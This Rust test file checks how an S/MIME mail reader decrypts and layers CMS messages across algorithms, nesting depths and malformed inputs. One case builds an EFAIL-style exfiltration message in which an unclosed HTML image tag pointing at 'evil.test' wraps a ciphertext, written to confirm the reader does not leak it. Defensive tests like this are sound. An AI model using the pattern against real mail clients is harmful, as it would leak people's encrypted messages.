//! What can be decrypted, by whichever algorithm, and through how many layers.

use serde_json::Value;

use crate::large_mail::Reader;
use crate::{ALICE, SIGN, TEXT, change, check, mail, object};

#[test]
fn what_can_be_decrypted() {
    let reader = Reader::new();
    let named = "subjectAltName=email:bob@example.test\n";
    for curve in ["P-256", "P-384", "P-521"] {
        reader.person(curve, &format!("ec -pkeyopt ec_paramgen_curve:{curve}"), "/CN=bob", named);
        reader.takes(curve);
    }
    let to = |cipher: &str, who: &str, how: &str| {
        let arguments = format!("-encrypt {cipher} -recip {who}.crt {how}");
        mail(&[ALICE.as_bytes(), &reader.cms(TEXT, arguments.trim_end())])
    };
    let fine = ["decrypted", "ok", "none", "ok"];
    let failed = |code| ["failed", code, "none", "ok"];
    let oaep = "-keyopt rsa_padding_mode:oaep";
    let mut cases = vec![
        ("OAEP", to("-aes256", "bob", oaep), fine),
        ("OAEP, SHA-256", to("-aes256", "bob", &format!("{oaep} -keyopt rsa_oaep_md:sha256")), fine),
        ("OAEP, SHA-384, MGF SHA-1", to("-aes128", "bob", &format!("{oaep} -keyopt rsa_oaep_md:sha384 -keyopt rsa_mgf1_md:sha1")), fine),
        ("OAEP, SHA-512, label", to("-aes256", "bob", &format!("{oaep} -keyopt rsa_oaep_md:sha512 -keyopt rsa_oaep_label:00ff07")), fine),
        ("P-256", to("-aes256", "P-256", ""), fine),
        ("P-384, SHA-384", to("-aes-256-gcm", "P-384", "-keyopt ecdh_kdf_md:sha384 -aes256-wrap"), fine),
        ("P-521, SHA-512", to("-aes256", "P-521", "-keyopt ecdh_kdf_md:sha512 -aes256-wrap"), fine),
        ("P-256, cofactor", to("-aes256", "P-256", "-keyopt ecdh_cofactor_mode:1"), fine),
        ("key identifier", to("-aes256", "bob", "-keyid"), fine),
        ("in BER", to("-aes256", "bob", "-stream -indef"), fine),
        ("to another", to("-aes256", "alice", ""), failed("not-for-us")),
        ("to another and us", to("-aes256", "alice", "-recip bob.crt"), fine),
        ("by a password", mail(&[ALICE.as_bytes(), &reader.cms(TEXT, "-encrypt -aes256 -pwri_password secret")]), failed("not-for-us")),
        ("2001 recipients", to("-aes256", "bob", &"-recip P-256.crt ".repeat(2000)), failed("too-many-recipients")),
        ("a digest", mail(&[ALICE.as_bytes(), &object("application/pkcs7-mime", &reader.cms(TEXT, "-digest_create -outform DER"))]), failed("not-mail")),
        ("nobody's", mail(&[ALICE.as_bytes(), &object("application/pkcs7-mime", &reader.cms(TEXT, "-EncryptedData_encrypt -aes128 -secretkey 000102030405060708090a0b0c0d0e0f -outform DER"))]), failed("not-mail")),
        ("compressed", mail(&[ALICE.as_bytes(), &object("application/pkcs7-mime", COMPRESSED)]), failed("compressed")),
        ("no object at all", mail(&[ALICE.as_bytes(), &object("application/pkcs7-mime", b"text")]), failed("malformed")),
    ];
    for cipher in ["-aes128", "-aes192", "-aes-128-gcm", "-aes-192-gcm", "-aes-256-gcm", "-des3"] {
        cases.push((cipher, to(cipher, "bob", ""), fine));
    }
    // The middle of a ciphertext that is not authenticated may be anything; the key is another's then.
    let gcm = to("-aes-256-gcm", "bob", "");
    let at = gcm.len() - 40;
    let mut touched = gcm.clone();
    touched[at] = if touched[at] == b'A' { b'B' } else { b'A' };
    cases.push(("GCM, touched", touched, failed("cannot-decrypt")));
    check(&reader, &[], cases);
}

/// CompressedData { 0, { zlibCompress }, { data, absent } }
const COMPRESSED: &[u8] =
    b"\x30\x30\x06\x0b\x2a\x86\x48\x86\xf7\x0d\x01\x09\x10\x01\x09\xa0\x21\x30\x1f\x02\x01\x00\x30\x0d\
    \x06\x0b\x2a\x86\x48\x86\xf7\x0d\x01\x09\x10\x03\x08\x30\x0b\x06\x09\x2a\x86\x48\x86\xf7\x0d\x01\x07\x01\
    ";

#[test]
fn layers_in_every_order() {
    let reader = Reader::new();
    let sign = |entity: &[u8], how: &str| {
        let text = String::from_utf8(entity.to_vec()).unwrap().replace("\r\n", "\n").replace('\n', "\r\n");
        reader.cms(text.as_bytes(), format!("{SIGN} {how}").trim_end())
    };
    let seal = |entity: &[u8]| reader.cms(entity, "-encrypt -aes-256-gcm -recip bob.crt");
    let seal_cbc = |entity: &[u8]| reader.cms(entity, "-encrypt -aes256 -recip bob.crt");
    let with = |entity: &[u8]| mail(&[ALICE.as_bytes(), entity]);
    let opaque = "-nodetach";
    let broken = change(&sign(TEXT, ""), "noon", "moon");
    let broken_outside = change(&sign(&seal(TEXT), ""), "filename=\"smime.p7m\"", "filename=\"other.p7m\"");
    let secret = String::from_utf8(seal(TEXT)).unwrap();
    let around = format!(
        "{ALICE}Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/html\r\n\r\n\
         <img src=\"http://evil.test/\r\n--m\r\n{secret}\r\n--m\r\nContent-Type: text/html\r\n\r\n\">\r\n--m--\r\n"
    );
    let mut deep = TEXT.to_vec();
    for _ in 0..9 {
        deep = sign(&deep, opaque);
    }
    let signed_sealed = ["decrypted", "ok", "valid", "ok"];
    let sealed = ["decrypted", "ok", "none", "ok"];
    check(
        &reader,
        &[],
        vec![
            ("signed, encrypted", with(&seal(&sign(TEXT, ""))), signed_sealed),
            ("opaque, encrypted", with(&seal(&sign(TEXT, opaque))), signed_sealed),
            ("encrypted twice", with(&seal(&seal_cbc(&sign(TEXT, "")))), signed_sealed),
            ("encrypted, signed", with(&sign(&seal(TEXT), "")), sealed),
            ("encrypted, opaque", with(&sign(&seal(TEXT), opaque)), sealed),
            ("triple", with(&sign(&seal(&sign(TEXT, "")), "")), signed_sealed),
            ("triple, opaque outside", with(&sign(&seal(&sign(TEXT, opaque)), opaque)), signed_sealed),
            ("triple, broken outside", with(&broken_outside), sealed),
            ("broken inside, GCM", with(&seal(&broken)), ["decrypted", "ok", "invalid", "altered"]),
            (
                "broken inside, CBC",
                with(&seal_cbc(&broken)),
                ["decrypted", "withheld-unauthentic", "invalid", "altered"],
            ),
            ("opaque twice", with(&sign(&sign(TEXT, opaque), opaque)), ["none", "ok", "valid", "ok"]),
            ("clear twice", with(&sign(&sign(TEXT, ""), "")), ["none", "ok", "invalid", "nested-signatures"]),
            ("a ciphertext among others' parts", around.into_bytes(), ["none", "ok", "none", "ok"]),
            ("nine signatures", with(&deep), ["failed", "too-deep", "none", "ok"]),
        ],
    );
    let file = reader.file("mail", &with(format!("X: y\r\n{}", "A: b\r\n".repeat(5000)).as_bytes()));
    let refused = reader.opening(&file).output().unwrap();
    let answer: Value = serde_json::from_slice(&refused.stdout).unwrap();
    assert_eq!((refused.status.code(), &answer["error"]["code"]), (Some(2), &"bad-message".into()));
}
